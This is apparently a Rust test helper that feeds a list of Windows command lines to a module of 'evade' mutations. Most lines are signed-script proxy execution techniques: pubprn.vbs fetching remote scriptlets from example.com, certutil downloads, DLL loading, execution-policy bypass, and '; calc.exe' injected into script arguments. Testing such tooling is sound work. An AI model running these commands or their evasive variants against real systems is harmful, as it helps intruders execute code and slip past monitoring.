//! Lines to mutate, of every kind of program and shell that mutations tell apart.

use cutout_core::advice::evade::mutation::ALL;
use cutout_core::advice::evade::{Line, Mutated, Mutation};
use cutout_tests::shared;

const LINES: &[&str] = &[
    r"cscript //b C:\Windows\System32\Printing_Admin_Scripts\en-US\pubprn.vbs 127.0.0.1 script:https://example.com/a.sct",
    r#""C:\Windows\System32\wscript.exe" "C:\Users\a b\pubprn.vbs" 192.0.2.1 "script:https://example.com/A.sct""#,
    r"cscript /nologo .\pubprn.vbs host script:http://example.com/x.sct //T:30",
    "pubprn.vbs 127.0.0.1 script:https://example.com/a.sct",
    r"cscript //nologo C:\Windows\System32\winrm.vbs invoke Create wmicimv2/Win32_Process @{CommandLine=`calc.exe a b`} -r:http://192.0.2.1:5985 -format:pretty",
    "winrm i c wmicimv2/Win32_Process -remote:http://192.0.2.1 -q",
    r"C:\Temp\cscript.exe C:\Windows\System32\winrm.vbs get winrm/config -format:pretty",
    "winrm quickconfig -q",
    r#"C:\Windows\System32\SyncAppvPublishingServer.vbs "n; Start-Process calc; iex 'ls -r'""#,
    r#"wscript.exe C:\Windows\System32\SyncAppvPublishingServer.vbs "Break; iwr http://192.0.2.1:443""#,
    r"cscript C:\Windows\System32\manage-bde.wsf -status C:",
    r#"powershell.exe -ep bypass -command "set-location -path C:\Windows\diagnostics\system\Audio; import-module .\CL_LoadAssembly.ps1; LoadAssemblyFromPath ..\..\..\..\temp\x.dll;[Program]::Fun('a b')""#,
    r#"powershell -c "ipmo .\UtilityFunctions.ps1; RegSnapin ..\x.dll; [P.C]::Main()""#,
    r"powershell.exe -nop . C:\Windows\diagnostics\system\AERO\CL_Invocation.ps1; SyncInvoke cmd.exe '/c calc'",
    r"powershell -ExecutionPolicy RemoteSigned -File .\Launch-VsDevShell.ps1 -VsWherePath C:\Windows\System32\calc.exe",
    r#"powershell -ep RemoteSigned -f .\Launch-VsDevShell.ps1 -VsInstallationPath "/../../../../../; calc.exe ;" -HostArch amd64"#,
    r"powershell.exe -nologo -windowstyle minimized -file C:\Users\a\AppData\Local\Temp\x.ps1",
    r#"powershell.exe -NoProfile -Command "& { Import-Module Pester; & { Get-Help Pester } }""#,
    r#"C:\Windows\system32\cmd.exe /c "C:\Program Files\WindowsPowerShell\Modules\Pester\3.4.0\bin\Pester.bat" help "; Start-Process calc""#,
    r"cmd /c Pester.bat /help ;calc.exe",
    "Pester.bat ;calc.exe",
    r"cmd /c cscript C:\Windows\System32\Printing_Admin_Scripts\en-US\pubprn.vbs 127.0.0.1 script:https://example.com/a.sct",
    r#"cmd.exe /d /s /c "cscript //b C:\Windows\x\pubprn.vbs 127.0.0.1 script:http://example.com/a""#,
    r"cmd /c cmd /q /c wscript C:\Windows\System32\manage-bde.wsf",
    r"cmd /c ping -n 5 192.0.2.1 & cscript C:\x\a.vbs",
    "ping -n 5 192.0.2.1",
    "bash -c id",
    r"& 'C:\Program Files\x\Launch-VsDevShell.ps1' -Arch amd64",
    r". C:\Windows\diagnostics\system\AERO\CL_Invocation.ps1; SyncInvoke cmd.exe /c",
    r"C:\test\CustomShellHost.exe",
    "sigverif.exe",
    r#"certutil -urlcache -f http://example.com/é "C:\Users\Ä b\ß.txt" a\"b c"#,
    r"powershell –enc dwBoAG8AYQBtAGkA",
    "cmd",
    "\"\"",
    "   ",
];

/// Own lines, with quotes written as backticks above, and the real ones where they are at hand.
fn lines() -> Vec<String> {
    let mut lines: Vec<String> = LINES.iter().map(|line| line.replace('`', "\"")).collect();
    if let Some(path) = shared::find("cases/t1216_cases.json") {
        let text = std::fs::read_to_string(path).unwrap();
        let cases: Vec<serde_json::Value> = serde_json::from_str(&text).unwrap();
        assert!(cases.len() >= 61);
        let of = cases.iter().filter_map(|case| case["cmd"].as_str());
        lines.extend(of.map(str::to_owned));
    }
    lines
}

/// Each mutation of each line.
pub fn each(mut check: impl FnMut(&str, &Line<'_>, &Mutation, &Mutated)) {
    for text in lines() {
        let Some(line) = Line::of(&text) else {
            continue;
        };
        for mutation in ALL {
            for mutated in (mutation.apply)(&line) {
                check(&text, &line, mutation, &mutated);
            }
        }
    }
}
